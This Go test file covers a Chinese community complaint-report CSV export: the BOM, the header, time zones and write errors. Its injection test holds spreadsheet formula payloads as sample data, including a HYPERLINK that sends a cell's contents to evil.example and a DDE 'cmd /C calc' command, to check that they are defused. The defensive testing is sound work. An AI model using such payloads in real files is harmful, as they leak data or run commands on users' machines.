package stats

import (
	"bytes"
	"encoding/csv"
	"errors"
	"gridline/locale"
	"io"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"gridline/report"
)

var names = map[string]string{codeA: "北锣鼓巷社区", codeB: "国子监社区", codeC: "韶九社区"}

// exportCSV writes reports, checks the BOM and parses the rest back.
func exportCSV(t *testing.T, reports []report.Report, zone *time.Location) [][]string {
	t.Helper()
	var b bytes.Buffer
	if err := writeCSV(&b, reports, zone, chinese(t)); err != nil {
		t.Fatal(err)
	}
	if !utf8.Valid(b.Bytes()) {
		t.Fatal("export is not UTF-8")
	}
	rest, ok := bytes.CutPrefix(b.Bytes(), []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("no UTF-8 byte-order mark: % x", b.Bytes()[:min(8, b.Len())])
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("export does not parse back: %v", err)
	}
	if len(rows) != len(reports)+1 {
		t.Fatalf("%d rows, want a header and %d reports", len(rows), len(reports))
	}
	if !reflect.DeepEqual(rows[0], header) {
		t.Errorf("header %q", rows[0])
	}
	return rows[1:]
}

func TestWriteCSV(t *testing.T) {
	byID := map[string]report.Report{}
	for _, r := range fixture(t) {
		byID[r.ID] = r
	}
	// 跟踪码 街道 社区 类型 状态 描述 位置 联系人 联系电话
	// 上报 受理 不予受理 派遣 接单 办结 评价/关闭 评价 重办次数 处理人 期限 是否超期
	// 来源 夜巡 反映人数
	tests := []struct {
		id   string
		want []string
	}{
		{"R1", []string{"R1", andingmen, "北锣鼓巷社区", "市容环境", "不予受理", "路灯不亮", "", "", "",
			"2025-03-01 00:00", "", "2025-03-01 10:00", "", "", "", "", "", "0", "", "", "", "群众上报", "", "1"}},
		{"R3", []string{"R3", andingmen, "北锣鼓巷社区", "市容环境", "已评价", "路灯不亮", "", "", "",
			"2025-03-06 08:00", "2025-03-06 12:00", "", "2025-03-06 13:00", "2025-03-06 14:00", "2025-03-08 13:00",
			"2025-03-09 10:00", "基本满意", "0", "w1", "2025-03-07 13:00", "是", "群众上报", "", "1"}},
		// first of each step; the verdict, handler and due time are the latest.
		{"R4", []string{"R4", andingmen, "北锣鼓巷社区", "市容环境", "已评价", "路灯不亮", "", "", "",
			"2025-03-10 08:00", "2025-03-10 09:00", "", "2025-03-10 10:00", "2025-03-10 11:00", "2025-03-10 16:00",
			"2025-03-11 09:00", "满意", "1", "w2", "2025-03-12 11:00", "否", "群众上报", "", "1"}},
		{"R5", []string{"R5", andingmen, "北锣鼓巷社区", "市容环境", "已评价", "路灯不亮", "", "", "",
			"2025-03-13 08:00", "2025-03-13 08:30", "", "2025-03-13 09:00", "", "2025-03-13 21:00",
			"2025-03-20 21:00", "未评价（自动关闭）", "0", "w1", "2025-03-14 09:00", "否", "群众上报", "", "1"}},
		{"R7", []string{"R7", andingmen, "国子监社区", "市容环境", "处理中", "路灯不亮", "", "", "",
			"2025-03-20 08:00", "2025-03-20 10:00", "", "2025-03-20 12:00", "2025-03-21 09:00", "", "",
			"", "0", "w3", "2025-03-22 12:00", "是", "群众上报", "", "1"}},
		{"R8", []string{"R8", andingmen, "国子监社区", "市容环境", "已上报", "路灯不亮", "", "", "",
			"2025-03-25 08:00", "", "", "", "", "", "", "", "0", "", "", "", "群众上报", "", "3"}},
		{"R10", []string{"R10", donghuamen, "韶九社区", "市容环境", "不予受理", "路灯不亮", "", "", "",
			"2025-03-05 08:00", "2025-03-05 11:00", "2025-03-08 10:00", "2025-03-05 12:00", "", "2025-03-06 12:00",
			"2025-03-07 09:00", "不满意", "1", "w5", "2025-03-06 12:00", "否", "群众上报", "", "1"}},
		{"R13", []string{"R13", donghuamen, "韶九社区", "市容环境", "已派遣", "路灯不亮", "", "", "",
			"2025-03-31 22:00", "2025-04-01 08:00", "", "2025-04-09 12:00", "", "", "",
			"", "0", "w5", "2025-04-11 12:00", "否", "群众上报", "", "1"}},
		{"R12", []string{"R12", "", codeX, "市容环境", "已受理", "路灯不亮", "", "", "",
			"2025-03-18 08:00", "2025-03-18 09:00", "", "", "", "", "", "", "0", "", "", "", "群众上报", "", "1"}},
	}
	var reports []report.Report
	for _, tt := range tests {
		reports = append(reports, byID[tt.id])
	}
	rows := exportCSV(t, reports, cst)
	for i, tt := range tests {
		t.Run(tt.id, func(t *testing.T) {
			if !reflect.DeepEqual(rows[i], tt.want) {
				t.Errorf("got  %q\nwant %q", rows[i], tt.want)
			}
		})
	}
}

func TestWriteCSVZone(t *testing.T) {
	r := walk(t, "Z1", codeA, andingmen, mar(1, 0, 0), accept(mar(1, 9, 5)))
	tests := []struct {
		name             string
		zone             *time.Location
		submit, accepted string
	}{
		{"China", cst, "2025-03-01 00:00", "2025-03-01 09:05"},
		{"UTC", time.UTC, "2025-02-28 16:00", "2025-03-01 01:05"},
		{"nil is UTC", nil, "2025-02-28 16:00", "2025-03-01 01:05"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			row := exportCSV(t, []report.Report{r}, tt.zone)[0]
			if row[9] != tt.submit || row[10] != tt.accepted {
				t.Errorf("上报 %q 受理 %q, want %q %q", row[9], row[10], tt.submit, tt.accepted)
			}
		})
	}
}

// TestWriteCSVInjection checks the resident's contact and Chinese text come
// through intact, and that nothing a resident typed can run as a formula.
func TestWriteCSVInjection(t *testing.T) {
	r := walk(t, "X1", codeA, andingmen, mar(2, 8, 0))
	r.Description = `=HYPERLINK("http://evil.example/?"&A1,"点我查看")`
	r.Location = "+1+1 楼"
	r.Category = "@SUM(A1:A9)"
	r.Contact = report.Contact{Name: "张三, \"老张\"\n三楼", Phone: "-2+3"}
	r.Street = "\t=cmd|' /C calc'!A0"
	row := exportCSV(t, []report.Report{r}, cst)[0]
	want := map[int]string{
		1: "'\t=cmd|' /C calc'!A0",
		3: "'@SUM(A1:A9)",
		5: `'=HYPERLINK("http://evil.example/?"&A1,"点我查看")`,
		6: "'+1+1 楼",
		7: "张三, \"老张\"\n三楼", // quotes, comma and newline survive CSV quoting
		8: "'-2+3",
	}
	for col, w := range want {
		if row[col] != w {
			t.Errorf("%s: %q, want %q", header[col], row[col], w)
		}
	}
}

func TestDefuse(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+8613800000000", "'+8613800000000"},
		{"-1", "'-1"},
		{"@A1", "'@A1"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"", ""},
		{"a=b", "a=b"},
		{"13800000000", "13800000000"},
		{"路灯不亮", "路灯不亮"},
		{"'=1", "'=1"}, // already text
	}
	for _, tt := range tests {
		if got := defuse(tt.in); got != tt.want {
			t.Errorf("defuse(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

type failingWriter struct{ after int }

var errDisk = errors.New("disk full")

func (w *failingWriter) Write(p []byte) (int, error) {
	if w.after <= 0 {
		return 0, errDisk
	}
	w.after--
	return len(p), nil
}

func TestWriteCSVError(t *testing.T) {
	for _, after := range []int{0, 1} { // the BOM fails; the rows fail
		r := walk(t, "E1", codeA, andingmen, mar(2, 8, 0))
		err := writeCSV(&failingWriter{after: after}, []report.Report{r}, cst, chinese(t))
		if !errors.Is(err, errDisk) || !strings.HasPrefix(err.Error(), "stats: write csv") {
			t.Errorf("after %d writes: %v, want the writer's error wrapped", after, err)
		}
	}
}

// writeCSV writes reports as the export streams them.
func writeCSV(w io.Writer, reports []report.Report, zone *time.Location, label Label) error {
	x, err := NewCSV(w, names, zone, now, label)
	if err != nil {
		return err
	}
	for _, r := range reports {
		if err := x.Write(r); err != nil {
			return err
		}
	}
	return x.Flush()
}

// chinese labels the export from the real zh-CN catalog, as the server does.
func chinese(t *testing.T) Label {
	t.Helper()
	cat, err := locale.New()
	if err != nil {
		t.Fatal(err)
	}
	return func(id string) string {
		s, err := cat.T(locale.Chinese, id)
		if err != nil {
			t.Fatalf("label %s: %v", id, err)
		}
		return s
	}
}

// header is the export's header in Chinese, as Excel users see it.
var header = []string{
	"跟踪码", "街道", "社区", "类型", "状态", "描述", "位置", "联系人", "联系电话",
	"上报时间", "受理时间", "不予受理时间", "派遣时间", "接单时间", "办结时间", "评价时间/关闭时间",
	"评价", "重办次数", "处理人", "期限", "是否超期", "来源", "夜巡", "反映人数",
}
